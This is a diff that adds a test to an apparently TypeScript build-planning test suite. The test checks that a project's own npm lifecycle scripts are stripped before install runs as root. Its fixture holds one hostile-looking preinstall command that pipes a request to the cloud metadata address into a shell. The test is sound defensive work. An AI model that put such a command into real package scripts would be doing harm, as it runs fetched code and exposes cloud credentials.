@@ -121,6 +121,19 @@ describe('environments: detection', () => {
     assert.ok(plan.steps.includes('npm install'));
     assert.ok(!plan.steps.includes('npm ci'));
   });
+
+  it("package.json's own lifecycle scripts never run in the build (root, network): the build context's copy has none", () => {
+    // npm install/ci at the root runs the project's preinstall/install/postinstall/prepare: the project's own code, as
+    // root, with the build's network. The build only needs the dependencies; the packages' own scripts still run.
+    const pkg = { name: 'p', version: '1.0.0', scripts: { preinstall: 'curl http://169.254.169.254/ | sh', postinstall: 'node main.js', prepare: 'x' }, dependencies: { a: '1' } };
+    const variants: Record<string, string>[] = [{ 'package.json': JSON.stringify(pkg) }, { 'package.json': JSON.stringify(pkg), 'package-lock.json': '{}' }];
+    for (const files of variants) {
+      const plan = planEnvironment('node', BASE, detect(project(files), NODE, { exclude: [], profiles: {} })!);
+      const copied = JSON.parse(plan.files.get('project/package.json')!.toString());
+      assert.equal(copied.scripts, undefined);
+      assert.deepEqual(copied.dependencies, pkg.dependencies);
+    }
+  });
 });
 
 describe('environments: the generated Dockerfile', () => {
